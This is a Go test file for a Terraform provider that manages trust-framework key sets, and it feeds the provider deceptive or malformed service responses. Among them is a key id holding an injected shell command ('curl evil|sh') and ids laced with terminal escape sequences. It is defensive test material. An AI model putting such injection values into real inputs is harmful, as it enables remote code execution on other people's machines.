// Copyright (c) The terraform-provider-trustframework Authors
// SPDX-License-Identifier: MPL-2.0

package provider_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"sync/atomic"

	"github.com/trustframework/terraform-provider-trustframework/internal/emulator"
)

// mostPages is how many requests one reading may take at most, whatever the answers say.
const mostPages = 1100

// lyingStatuses are those with which something in between may answer in the service's place.
func lyingStatuses() []int {
	return []int{400, 401, 403, 404, 407, 408, 409, 410, 412, 422, 429, 451, 499}
}

// lies are the rows of the table of answers that aren't what they seem, by their names on the page.
func lies() map[string]fault {
	answer := func(status int, commit bool, contentType, body string) fault {
		return fault{answer: func(_ *cell, op emulator.Op) emulator.Fault {
			return emulator.Fault{Op: op, Status: status, Commit: commit, ContentType: contentType, Body: body}
		}}
	}
	const page, json, denied = "<html><body>Blocked</body></html>", "application/json", `{"error":{"code":"AccessDenied","message":"Denied by policy."}}`
	// empty is an answer without a body, which the emulator has for successes only.
	empty := func(status int) fault {
		return fault{answer: func(_ *cell, op emulator.Op) emulator.Fault {
			return emulator.Fault{Op: op, Status: status, Commit: true, Rewrite: func([]byte) []byte { return nil }}
		}}
	}
	rows := map[string]fault{
		"`403` with a page, before any work":                     answer(403, false, "text/html", page),
		"`400` with JSON that has no code, after the work":       answer(400, true, json, `{"message":"No."}`),
		"`400` with a code that is none, after the work":         answer(400, true, json, `{"error":{"code":"<b>no</b>","message":"No."}}`),
		"`404` with nothing in it, after the work":               empty(404),
		"`400` with JSON that ends too early, after the work":    answer(400, true, json, `{"error":{"code":"AADB2C90073","mess`),
		"`200` with an error in it, after the work":              answer(200, true, json, denied),
		"`200` with an error in it, before any work":             answer(200, false, json, denied),
		"`200` with JSON of something else, after the work":      answer(200, true, json, `{"status":"ok"}`),
		"`200` with JSON of something else, before any work":     answer(200, false, json, `{"status":"ok"}`),
		"`200` with a page, before any work":                     answer(200, false, "text/html", page),
		"`200` with JSON of the wrong types, after the work":     answer(200, true, json, `{"id":5,"value":{},"kid":[1],"keys":"none","issuer":1,"token_endpoint":{},"access_token":{}}`),
		"`202` with nothing in it, after the work":               answer(202, true, json, ""),
		"`202` with nothing in it, before any work":              answer(202, false, json, ""),
		"`206` with nothing in it, after the work":               answer(206, true, json, ""),
		"`206` with nothing in it, before any work":              answer(206, false, json, ""),
		"`302` to another host, after the work":                  {answer: redirect},
		"The answer to an earlier request, after the work":       {answer: func(c *cell, op emulator.Op) emulator.Fault { return c.replayed(op, true) }},
		"The answer to an earlier request, before any work":      {answer: func(c *cell, op emulator.Op) emulator.Fault { return c.replayed(op, false) }},
		"`201` with an empty key set that was there before":      {answer: existing},
		"The `kid` or `id` is `..`":                              named(".."),
		"The `kid` or `id` is a command":                         named("a/b; curl evil|sh"),
		"The `kid` or `id` has line breaks and escape sequences": named("a\nNo changes.\x1b[2J\x1b]0;title\a\u009b31m\u202e"),
		"The `kid` or `id` is 10 KB long":                        named(strings.Repeat("k", 10<<10)),
		"`nbf` of the key is `\"soon\"`":                         dated("nbf", "soon"),
		"Next pages without end":                                 endless(),
	}
	for of, odd := range map[string]struct {
		member string
		value  any
	}{
		"`exp` of somebody's key is `\"soon\"`":            {"exp", "soon"},
		"`nbf` of somebody's key is `1.5e300`":             {"nbf", 1.5e300},
		"`nbf` of somebody's key is `{}`":                  {"nbf", map[string]any{}},
		"The `kid` of somebody's key is `..`":              {"kid", ".."},
		"The `kid` of somebody's key has escape sequences": {"kid", "a\x1b[2J\nNo changes."},
		"The `kid` of somebody's key is a number":          {"kid", 7},
	} {
		rows[of] = neighbor(odd.member, odd.value, false)
		rows[of+", in another set"] = neighbor(odd.member, odd.value, true)
	}
	for _, status := range lyingStatuses() {
		rows[fmt.Sprintf("`%d` with a page, after the work", status)] = answer(status, true, "text/html", page)
	}
	return rows
}

// redirect leads to another host, after the work.
func redirect(_ *cell, op emulator.Op) emulator.Fault {
	return emulator.Fault{
		Op: op, Commit: true, Status: http.StatusFound, ContentType: "text/html", Body: "<html>Moved</html>",
		Header: http.Header{"Location": {"https://127.0.0.1:1/elsewhere"}},
	}
}

// rewritten changes the JSON objects of an answer. What isn't JSON stays.
func rewritten(op emulator.Op, change func(object map[string]any)) emulator.Fault {
	return emulator.Rewritten(op, func(body []byte) []byte {
		var object map[string]any
		decoder := json.NewDecoder(bytes.NewReader(body))
		decoder.UseNumber()
		if decoder.Decode(&object) != nil {
			return body
		}
		change(object)
		changed, err := json.Marshal(object)
		if err != nil {
			return body
		}
		return changed
	})
}

// members are the objects of a list in an object.
func members(object map[string]any, list string) []map[string]any {
	var all []map[string]any
	values, _ := object[list].([]any)
	for _, value := range values {
		if member, ok := value.(map[string]any); ok {
			all = append(all, member)
		}
	}
	return all
}

// named gives what an answer is about a name that can't be one.
func named(name string) fault {
	return fault{answer: func(_ *cell, op emulator.Op) emulator.Fault {
		return rewritten(op, func(object map[string]any) {
			for _, one := range append(members(object, "value"), object) {
				for _, member := range []string{"id", "kid"} {
					if _, ok := one[member]; ok {
						one[member] = name
					}
				}
			}
		})
	}}
}

// dated gives the key of an answer a value that is no date.
func dated(member string, value any) fault {
	return fault{answer: func(_ *cell, op emulator.Op) emulator.Fault {
		return rewritten(op, func(object map[string]any) { object[member] = value })
	}}
}

// neighbor changes the first key of the set Signing, which isn't the resource's. The resource is another key of that set or,
// if elsewhere is true, another set. What names one key only isn't asked.
func neighbor(member string, value any, elsewhere bool) fault {
	skips := []emulator.Op{emulator.OpGetActiveKey}
	if elsewhere {
		skips = append(skips, emulator.OpGet, emulator.OpListKeys, emulator.OpGetKey)
	}
	return fault{
		ofKey: !elsewhere, skips: skips,
		answer: func(_ *cell, op emulator.Op) emulator.Fault {
			return rewritten(op, func(object map[string]any) {
				keys := members(object, "keys")
				for _, one := range members(object, "value") {
					if op == emulator.OpListKeys {
						keys = append(keys, one)
					}
					keys = append(keys, members(one, "keys")...)
				}
				if len(keys) == 0 {
					keys = []map[string]any{object}
				}
				keys[0][member] = value
			})
		},
	}
}

// endless leads from each page to another one.
func endless() fault {
	return fault{
		lasts: true, skips: []emulator.Op{emulator.OpGet, emulator.OpGetKey, emulator.OpGetActiveKey},
		answer: func(c *cell, op emulator.Op) emulator.Fault {
			var page atomic.Int64
			address := "/beta/trustFramework/keySets"
			if op == emulator.OpListKeys {
				address += "/B2C_1A_Signing/keys_v2"
			}
			return emulator.Fault{Op: op, Status: http.StatusOK, Rewrite: func([]byte) []byte {
				n := page.Add(1)
				if n > 2*mostPages { // a client without a bound isn't to fill the memory
					return []byte(`{"value":[]}`)
				}
				return fmt.Appendf(nil, `{"value":[],"@odata.nextLink":"%s%s?$skiptoken=%d"}`, c.Server.URL(), address, n)
			}}
		},
	}
}

// existing says that a key set was created that was there before.
func existing(c *cell, op emulator.Op) emulator.Fault {
	c.AddKeySet("B2C_1A_Other")
	return emulator.Fault{Op: op, Status: http.StatusCreated, Body: `{"id":"B2C_1A_Other","keys":[]}`}
}

// replayed is the answer to an earlier request of the operation, about something else.
func (c *cell) replayed(op emulator.Op, commit bool) emulator.Fault {
	c.t.Helper()
	s := newServer(c.t, c.world)
	var said said
	switch op {
	case emulator.OpCreate:
		_, said = s.apply(setType, managed{}, map[string]string{"name": "Third"})
	case emulator.OpGenerateKey, emulator.OpUploadSecret:
		_, said = s.apply(c.source.resource, managed{}, c.source.config)
	case emulator.OpUploadCertificate, emulator.OpUploadPKCS12:
		// A certificate can't be uploaded twice: the answer is what another request has been answered.
		return emulator.Fault{Op: op, Commit: commit, Status: http.StatusOK, Body: c.keyAsAnswered()}
	case emulator.OpGet:
		_, said = s.data("trustframework_key_set", map[string]string{"name": "Signing"})
	case emulator.OpGetKey:
		return emulator.Replayed(op, commit).After(1) // that of the first key to the question for the second
	}
	if len(said) > 0 {
		c.t.Fatal(said)
	}
	return emulator.Replayed(op, commit)
}

// keyAsAnswered is the first key of the set as the service shows it.
func (c *cell) keyAsAnswered() string {
	c.t.Helper()
	key := c.keys("B2C_1A_Signing")[0]
	text, err := json.Marshal(map[string]any{"kid": key.Kid, "kty": key.Kty, "use": key.Use, "nbf": nil, "exp": nil, "n": key.N, "e": key.E, "x5c": key.X5C, "x5t": key.X5T})
	if err != nil {
		c.t.Fatal(err)
	}
	return string(text)
}
